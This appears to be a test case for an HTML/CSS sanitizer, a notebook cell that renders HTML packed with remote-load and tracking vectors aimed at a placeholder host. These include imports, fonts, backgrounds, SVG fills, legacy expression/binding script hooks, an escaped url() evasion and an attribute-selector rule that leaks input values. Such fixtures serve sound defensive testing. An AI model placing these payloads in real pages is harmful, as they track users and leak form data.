# tries: to load, to read and to cover by styles: imports, pictures, fonts, a sheet over all that is not its own
# must: lose them
# score: 10
from IPython.display import HTML, display

display(
    HTML("""
<style>@import "http://beacon.example/import.css"; @font-face { font-family: f; src: url(http://beacon.example/font) }
* { background: url(http://beacon.example/all); font-family: f; cursor: url(http://beacon.example/cursor), auto }
body::before { content: url(http://beacon.example/before) } input[value^="a"] { list-style: url(//beacon.example/a) }</style>
<b style="background:url(http://beacon.example/inline);-moz-binding:url(//beacon.example/x);behavior:url(//beacon.example/y)">3</b>
<b style="background:\\75rl(http://beacon.example/escaped);width:expression(alert(1))">3</b>
<table background="http://beacon.example/table"><tr><td background="http://beacon.example/cell">3</td></tr></table>
<svg><style>@import url(http://beacon.example/svg.css)</style><rect fill="url(http://beacon.example/rect#x)"/></svg>
""")
)


def add(a, b):
    return a + b
